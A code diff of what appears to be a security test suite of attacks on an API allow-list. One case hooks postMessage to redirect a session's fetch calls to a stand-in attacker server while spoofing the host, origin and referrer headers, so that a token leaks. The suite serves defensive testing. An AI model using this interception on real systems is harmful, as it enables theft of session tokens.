@@ -1,6 +1,7 @@
 // Tricks on the list of APIs, to have a token sent to the attacker's own server.
+import { onPosted } from '../wire.mjs';
 
-/** An attack that fetches `urls` through the session, in all ways. */
+/** An attack that fetches `urls` through the session, by GET and by POST. */
 const fetching = (id, title, urls, more = {}) => ({
   id: `list-${id}`,
   title: `has session.fetch send a token to its own server ${title}`,
@@ -146,18 +147,12 @@ export const allowList = [
     title: 'changes the messages on their way to the vault: the URL of an API call becomes its own server’s',
     when: 'after',
     async run({ hooks, config, victim }) {
-      const { postMessage } = MessagePort.prototype;
-      hooks.replace(MessagePort.prototype, 'postMessage', {
-        writable: true,
-        value(message, ...rest) {
-          const request = message?.[0]?.command?.command?.fetch;
-          if (request) {
-            request.url = config.attacker;
-            request.headers.push(['host', new URL(config.api).host], ['origin', config.api]);
-            request.init.push(['referrer', config.api]);
-          }
-          return Reflect.apply(postMessage, this, [message, ...rest]);
-        },
+      onPosted(hooks, (message) => {
+        const request = message?.[0]?.command?.command?.fetch;
+        if (!request) return;
+        request.url = config.attacker;
+        request.headers.push(['host', new URL(config.api).host], ['origin', config.api]);
+        request.init.push(['referrer', config.api]);
       });
       await victim('fetch', 'post');
     },
